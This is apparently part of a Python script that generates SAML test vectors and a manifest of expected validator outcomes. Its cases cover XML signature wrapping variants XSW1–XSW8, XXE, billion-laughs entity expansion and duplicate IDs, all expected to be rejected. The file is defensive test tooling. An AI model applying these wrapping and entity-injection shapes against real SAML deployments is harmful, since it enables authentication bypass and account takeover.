    "status-not-success-signed-assertion.xml": (v_status_not_success_signed_assertion, [
        {"expect": "status_not_success", "spec": "Core 3.2.2.2 StatusCode"}]),
    "dtd-entity-expansion.xml": (lambda: _with_doctype(BILLION_LAUGHS, "lol9"), [
        {"expect": "xml_forbidden", "spec": "billion laughs: any DTD refused"}]),
    "xxe-external-entity.xml": (lambda: _with_doctype(XXE, "xxe"), [
        {"expect": "xml_forbidden", "spec": "XXE: any DTD refused"}]),
    "two-assertions.xml": (v_two_assertions, [
        {"expect": "multiple_assertions", "spec": "exactly one assertion per response"}]),
    "transient-name-id.xml": (v_transient_name_id, [
        {"expect": "transient_name_id", "spec": "Core 8.3.8 transient: not an account key"}]),
    "duplicate-id.xml": (v_duplicate_id, [
        {"expect": "signature_wrapping", "spec": "XML-DSig 4.4.3.3: IDs must be unique"}]),
    "signature-reference-not-enveloping.xml": (v_signature_reference_not_enveloping, [
        {"expect": "signature_wrapping",
         "spec": "SAML Core 5.4.2: the Reference is the enveloping element's own ID"}]),
    "encrypted-assertion.xml": (v_encrypted_assertion, [
        {"expect": "ok", "spec": "Core 6.2 EncryptedAssertion, signed inside"}]),
    "encrypted-assertion-unsigned.xml": (v_encrypted_assertion_unsigned, [
        {"expect": "signature_missing", "spec": "encryption is not authentication"}]),
    "encrypted-assertion-in-signed-response.xml": (v_encrypted_assertion_in_signed_response, [
        {"expect": "ok", "spec": "Core 5.2 and 6.2: a signed Response enveloping an "
                                 "EncryptedAssertion (Keycloak: sign documents, encrypt)"},
        {"expect": "signature_missing", "config": {"require_signed_assertion": True},
         "spec": "require_signed_assertion: the decrypted Assertion carries no signature"}]),
    "xsw-response-evil-assertion-in-signature-object.xml": (
        v_xsw_response_evil_assertion_in_signature_object, [
            {"expect": "signature_wrapping",
             "spec": "signed Response: an Assertion inside its Signature is not covered"}]),
    "xsw-response-evil-assertion-first.xml": (v_xsw_response_evil_assertion_first, [
        {"expect": "multiple_assertions",
         "spec": "signed Response: exactly one enveloped assertion (XSW3 shape)"}]),
    "xsw-response-original-in-signature-object.xml": (
        v_xsw_response_original_in_signature_object, [
            {"expect": "signature_wrapping",
             "spec": "signed Response: the original moved into the Signature (XSW8 shape)"}]),
    "xsw-response-evil-assertion-in-extensions.xml": (
        v_xsw_response_evil_assertion_in_extensions, [
            {"expect": "signature_wrapping",
             "spec": "signed Response: an Assertion in Extensions (XSW7 shape)"}]),
    "xsw-response-signed-original-in-evil-extensions.xml": (
        v_xsw_response_signed_original_in_evil_extensions, [
            {"expect": "signature_wrapping",
             "spec": "the genuine signed Response nested in an evil one (XSW2 shape)"}]),
    "xsw-response-evil-assertion-borrows-response-id.xml": (
        v_xsw_response_evil_assertion_borrows_response_id, [
            {"expect": "signature_wrapping",
             "spec": "XML-DSig 4.4.3.3: the Reference's ID must name one element"}]),
    "response-signature-reference-empty-uri.xml": (v_response_signature_reference_empty_uri, [
        {"expect": "signature_wrapping",
         "spec": "SAML Core 5.4.2: the Reference is the signed element's own ID, not \"\""}]),
    "response-only-digest-mismatch.xml": (v_response_only_digest_mismatch, [
        {"expect": "signature_invalid",
         "spec": "signed Response: the enveloped Assertion is covered by its digest"}]),
    "response-only-signed-by-other-key.xml": (v_response_only_signed_by_other_key, [
        {"expect": "signature_invalid",
         "spec": "signed Response: only pinned certificates verify"}]),
    "signed-response-with-assertion-signed-by-other-key.xml": (
        v_signed_response_with_assertion_signed_by_other_key, [
            {"expect": "signature_invalid",
             "spec": "a present Assertion signature must verify, even under a signed Response"}]),
    "xsw-1-response-wrapper-original-in-signature.xml": (
        v_xsw_1_response_wrapper_original_in_signature, [
            {"expect": "signature_wrapping", "config": {"require_signed_assertion": False},
             "spec": "XSW1"}]),
    "xsw-2-response-wrapper-original-detached.xml": (
        v_xsw_2_response_wrapper_original_detached, [
            {"expect": "signature_wrapping", "config": {"require_signed_assertion": False},
             "spec": "XSW2"}]),
    "xsw-3-evil-assertion-first.xml": (v_xsw_3_evil_assertion_first, [
        {"expect": "multiple_assertions", "spec": "XSW3"}]),
    "xsw-4-evil-assertion-wraps-original.xml": (v_xsw_4_evil_assertion_wraps_original, [
        {"expect": "signature_wrapping", "spec": "XSW4"}]),
    "xsw-5-evil-assertion-carries-signature.xml": (v_xsw_5_evil_assertion_carries_signature, [
        {"expect": "multiple_assertions", "spec": "XSW5"}]),
    "xsw-6-original-in-evil-signature-object.xml": (
        v_xsw_6_original_in_evil_signature_object, [
            {"expect": "signature_wrapping", "spec": "XSW6"}]),
    "xsw-7-original-in-extensions.xml": (v_xsw_7_original_in_extensions, [
        {"expect": "signature_wrapping", "spec": "XSW7"}]),
    "xsw-8-original-unsigned-in-evil-signature-object.xml": (
        v_xsw_8_original_unsigned_in_evil_signature_object, [
            {"expect": "signature_wrapping", "spec": "XSW8"}]),
}


#: the encrypted vectors, and whether the assertion inside is signed
ENCRYPTED = {"encrypted-assertion.xml": True, "encrypted-assertion-unsigned.xml": False,
             "encrypted-assertion-in-signed-response.xml": False}


def _same_encrypted(path: Path, signed: bool) -> bool:
    """Whether ``path`` decrypts to the assertion this script would encrypt now."""
    if not path.exists():
        return False
    old = etree.fromstring(path.read_bytes())
    data = old.find(".//{http://www.w3.org/2001/04/xmlenc#}EncryptedData")
    manager = xmlsec.KeysManager()
    manager.add_key(xmlsec.Key.from_memory(read_key("sp.key"), xmlsec.constants.KeyDataFormatPem))
    try:
        xmlsec.EncryptionContext(manager).decrypt(data)
    except xmlsec.Error:
        return False
    fresh = assertion_of(signed_assertion() if signed else build())
    return (etree.tostring(descendant(old, q(SAML, "Assertion")), method="c14n", exclusive=True)
            == etree.tostring(fresh, method="c14n", exclusive=True))


def main() -> None:
    ensure_keys()
    manifest: dict[str, list[Case]] = {}
    for name, (builder, cases) in VECTORS.items():
        path = HERE / name
        if name in ENCRYPTED and _same_encrypted(path, ENCRYPTED[name]):
            manifest[name] = cases
            continue
        built = builder()
        path.write_bytes(built if isinstance(built, bytes) else serialize(built))
        manifest[name] = cases
    (HERE / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    print(f"wrote {len(manifest)} vectors to {HERE}")


if __name__ == "__main__":
    main()
